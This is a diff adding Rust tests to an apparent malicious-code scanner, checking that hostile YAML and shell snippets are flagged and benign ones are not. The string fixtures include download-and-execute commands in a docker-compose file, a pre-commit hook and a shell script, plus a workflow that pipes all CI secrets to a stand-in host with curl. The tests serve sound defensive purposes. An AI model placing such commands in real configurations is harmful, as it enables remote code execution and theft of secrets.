@@ -576,3 +576,46 @@ fn python_values_flow_through_functions_and_file_loaders() {
         "import os, socket\nhome = os.environ.get('HOME')\nsocket.gethostbyname('example.invalid')\nprint(home)\n",
     );
 }
+
+#[test]
+fn yaml_that_runs_is_code_wherever_it_is_kept() {
+    // A compose file's command, a workflow kept as a template, a hook
+    // manager's configuration without its leading dot.
+    caught(
+        "docker-compose.yml",
+        "services:\n  seed:\n    image: alpine:3.20\n    entrypoint: [\"/bin/sh\", \"-c\"]\n    command: \"wget -q -O /tmp/seed.sh http://203.0.113.81/seed.sh && sh /tmp/seed.sh\"\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "templates/label.yml",
+        "on: pull_request_target\njobs:\n  sync:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: printf '%s' \"$ALL\" | curl -s --data-binary @- https://example.invalid/sync\n",
+        Rule::Exfiltration,
+    );
+    caught(
+        "templates/pre-commit-config.yaml",
+        "repos:\n  - repo: local\n    hooks:\n      - id: hygiene\n        language: system\n        entry: >-\n          sh -c 'f=/tmp/hygiene;\n          wget -q -O \"$f\" https://example.invalid/hygiene/latest;\n          sh \"$f\"'\n",
+        Rule::DownloadExec,
+    );
+    // The same files doing ordinary work are not attacks.
+    quiet(
+        "docker-compose.yml",
+        "services:\n  db:\n    image: postgres:16\n    command: postgres -c max_connections=200\n    healthcheck:\n      test: [\"CMD\", \"pg_isready\"]\n",
+    );
+    quiet(
+        "templates/ci.yml",
+        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n        env:\n          TOKEN: ${{ secrets.GITHUB_TOKEN }}\n",
+    );
+}
+
+#[test]
+fn constant_code_a_shell_runs_is_read_as_shell() {
+    caught(
+        "scripts/a.sh",
+        "sh -c 'f=/tmp/x; curl -fsSL -o \"$f\" https://203.0.113.9/x; sh \"$f\"'\n",
+        Rule::DownloadExec,
+    );
+    quiet(
+        "scripts/b.sh",
+        "bash -c 'curl -fsSL -o /tmp/data.json https://api.example.invalid/rates; jq . /tmp/data.json'\n",
+    );
+}
